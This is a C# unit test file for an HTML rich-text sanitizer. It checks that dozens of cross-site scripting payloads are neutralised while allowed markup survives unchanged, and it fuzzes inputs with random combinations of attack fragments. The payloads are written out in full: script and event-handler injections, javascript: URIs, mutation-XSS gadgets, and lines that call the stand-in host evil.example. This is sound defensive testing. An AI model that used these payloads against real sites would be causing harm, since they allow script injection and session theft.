using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CsCheck;
using Partnership.Editorial.RichText;

namespace Partnership.Editorial.Tests.RichText;

public sealed class RichTextSanitizerTests
{
    private static readonly HashSet<string> Elements = new(StringComparer.Ordinal)
    {
        "p", "br", "h2", "h3", "h4", "ul", "ol", "li", "dl", "dt", "dd", "strong", "b", "em", "i", "sub", "sup", "abbr", "cite", "q",
        "blockquote", "a", "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "hr",
    };

    private static readonly HashSet<string> Attributes = new(StringComparer.Ordinal)
    {
        "href", "lang", "dir", "title", "start", "reversed", "colspan", "rowspan", "scope", "data-destination-id", "data-destination-type",
        "data-link-type", "data-start-item-id", "data-start-item-path",
    };

    // Pieces of the attacks below and of the cheat sheets, to be put together at random.
    private static readonly string[] Pieces =
    [
        "<svg>", "</svg>", "<math>", "</math>", "<mtext>", "<mglyph>", "<annotation-xml encoding=\"text/html\">", "<foreignObject>", "<desc>",
        "<title>", "</title>", "<style>", "</style>", "<script>", "</script>", "<noscript>", "</noscript>", "<template>", "</template>",
        "<textarea>", "</textarea>", "<xmp>", "</xmp>", "<plaintext>", "<iframe srcdoc=\"", "<form action=//x>", "</form>", "<table>",
        "</table>", "<tr>", "<td>", "<p>", "</p>", "<a href=\"", "javascript:alert(1)", "data:text/html,x", "\">", "'",
        "<img src=x onerror=alert(1)>", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<a id=\"", "</p title=\"", "<select>", "<option>",
        "<noembed>", "</noembed>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "&lt;script&gt;", "&#x3C;b&#x3E;", "\0", "text",
    ];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
    [InlineData("<scr<script>ipt>alert(1)</scr</script>ipt>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<p onclick=\"alert(1)\" onmouseover='x'>t</p>")]
    [InlineData("<p/onclick=alert(1)//>t</p>")]
    [InlineData("<a href=\"javascript:alert(1)\">t</a>")]
    [InlineData("<a href=\"JaVa\tScRiPt:alert(1)\">t</a>")]
    [InlineData("<a href=\"&#106;avascript:alert(1)\">t</a>")]
    [InlineData("<a href=\" \u0001javascript:alert(1)\">t</a>")]
    [InlineData("<a href=\"java&#10;script:alert(1)\">t</a>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">t</a>")]
    [InlineData("<a href=\"vbscript:x\">t</a>")]
    [InlineData("<a href=\"blob:https://x/y\">t</a>")]
    [InlineData("<a href=\"file:///etc/passwd\">t</a>")]
    [InlineData("<a xlink:href=\"javascript:alert(1)\">t</a>")]
    [InlineData("<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\"><text>t</text></a></svg>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<svg><animate attributeName=href values=javascript:alert(1) /></svg>")]
    [InlineData("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>")]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<textarea><script>alert(1)</script></textarea>")]
    [InlineData("<xmp><script>alert(1)</script></xmp>")]
    [InlineData("<style>@import url(//evil.example)</style>")]
    [InlineData("<p style=\"background:url(javascript:alert(1))\">t</p>")]
    [InlineData("<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example>")]
    [InlineData("<iframe src=//evil.example srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<object data=x.swf></object><embed src=x.swf>")]
    [InlineData("<form action=//evil.example><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>t</button></form>")]
    [InlineData("<details open ontoggle=alert(1)>t</details>")]
    [InlineData("<video><source onerror=alert(1)></video><audio src onloadstart=alert(1)>")]
    [InlineData("<table background=\"javascript:alert(1)\"><tr><td background=x>t</td></tr></table>")]
    [InlineData("<!--[if IE]><script>alert(1)</script><![endif]-->")]
    [InlineData("<p id=\"forms\" class=\"govuk-error\" name=\"getElementById\">t</p>")]
    [InlineData("<b><p></b></p><a><a href=javascript:alert(1)><table><a>t")]
    [InlineData("<a href=\"https://ok.example\" target=_blank ping=//evil.example>t</a>")]
    public void Sanitize_Attack_LeavesNothingActive(string html) => AssertHarmless(RichTextSanitizer.Sanitize(html));

    [Fact]
    public void Sanitize_PiecesOfAttacksInAnyOrder_LeavesNothingActive() =>
        Gen.Int[0, Pieces.Length - 1].Array[1, 12].Select(picks => string.Concat(picks.Select(p => Pieces[p]))).Sample(html => AssertHarmless(RichTextSanitizer.Sanitize(html)), iter: 5000);

    [Theory]
    [InlineData("<h2>One</h2><h3>Two</h3><h4>Three</h4><p>Text with <strong>strong</strong> and <em>stressed</em> words.<br>Next line</p>")]
    [InlineData("<ul><li>One<ul><li>Inner</li></ul></li></ul><ol start=\"3\" reversed=\"\"><li>Three</li></ol>")]
    [InlineData("<dl><dt>Term</dt><dd>Meaning</dd></dl><blockquote><p>Said <cite>somebody</cite></p></blockquote><hr>")]
    [InlineData("<table><caption>Dates</caption><thead><tr><th scope=\"col\">Day</th></tr></thead><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>")]
    [InlineData("<p><a href=\"/about\" data-link-type=\"Content\" data-destination-id=\"0192a0de-1111-7222-8333-444455556666\">About</a></p>")]
    [InlineData("<p><a href=\"https://www.gov.uk/\">GOV.UK</a> <a href=\"mailto:a@b.example\">Mail</a> <a href=\"tel:999\">999</a> <a href=\"#top\">Top</a></p>")]
    [InlineData("<p lang=\"cy\" dir=\"ltr\">Croeso <abbr title=\"Safeguarding\">S</abbr> H<sub>2</sub>O 1<sup>st</sup> &amp; &lt;b&gt;</p>")]
    public void Sanitize_WhatPagesNeed_SurvivesUnchanged(string html) => Assert.Equal(html, RichTextSanitizer.Sanitize(html));

    [Fact]
    public void Sanitize_ElementThatIsNotAllowed_KeepsItsWords() =>
        Assert.Equal("<p>Read this text.</p>", RichTextSanitizer.Sanitize("<p>Read <span class=\"x\">this</span> <font>text</font>.</p>"));

    [Fact]
    public void Sanitize_FromManyThreads_GivesTheSame()
    {
        const string Html = "<p>Text<script>alert(1)</script> <a href=\"/about\">About</a></p>";
        var expected = RichTextSanitizer.Sanitize(Html);

        Parallel.For(0, 200, _ => Assert.Equal(expected, RichTextSanitizer.Sanitize(Html)));
    }

    // As a browser would see it: what counts is what the markup means when it is parsed again, inside a page.
    private static void AssertHarmless(string markup)
    {
        var body = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument($"<body><main>{markup}</main>").QuerySelector("main");
        Assert.NotNull(body);
        Assert.Equal("BODY", body.ParentElement?.TagName);
        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.True(Elements.Contains(element.LocalName), $"<{element.LocalName}> in {markup}");
            Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
            foreach (var attribute in element.Attributes)
                Assert.True(Attributes.Contains(attribute.Name), $"{attribute.Name} in {markup}");
            if (element.GetAttribute("href") is { } href)
                Assert.Matches("^(https?:|mailto:|tel:|[^:]*$|[^:]*[/?#])", href);
        }

        Assert.Empty(body.Descendants<IComment>());
    }
}
